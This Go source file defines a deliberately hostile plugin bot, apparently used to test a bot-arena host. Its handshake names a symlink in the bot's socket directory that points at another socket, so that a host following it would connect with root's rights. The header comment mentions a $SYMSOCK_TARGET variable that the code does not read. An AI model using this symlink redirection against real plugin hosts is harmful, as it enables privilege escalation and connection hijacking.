// Command symsock is a hostile bot whose handshake names a symlink in its own socket dir that
// points at another socket (its first argument, or $SYMSOCK_TARGET): a host that follows it
// would connect, with root's rights, to whatever that is.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/botarena/arena/sdk/handshake"
)

func main() {
	target := "/run/arena-hostile-root.sock"
	if len(os.Args) > 1 {
		target = os.Args[1]
	}
	link := filepath.Join(os.Getenv("PLUGIN_UNIX_SOCKET_DIR"), "plugin-link")
	if err := os.Symlink(target, link); err != nil {
		fmt.Fprintln(os.Stderr, "symlink:", err)
	}
	fmt.Printf("1|%d|unix|%s|grpc|MIIB\n", handshake.ProtocolVersion, link)
	time.Sleep(time.Hour)
}
